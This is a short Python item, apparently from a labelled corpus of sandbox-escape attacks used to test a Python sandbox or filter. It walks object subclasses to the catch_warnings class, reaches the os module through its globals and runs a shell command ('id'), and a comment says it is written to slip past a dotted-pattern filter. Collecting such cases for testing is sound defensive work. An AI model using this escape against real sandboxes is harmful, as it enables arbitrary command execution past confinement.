# attack-class: 7
# title: type.__subclasses__(object)
# why: calls __subclasses__ through type to avoid the dotted pattern

subs = type.__subclasses__(object)
wc = next(s for s in subs if s.__name__ == "catch_warnings")
wc.__init__.__globals__["sys"].modules["os"].system("id")
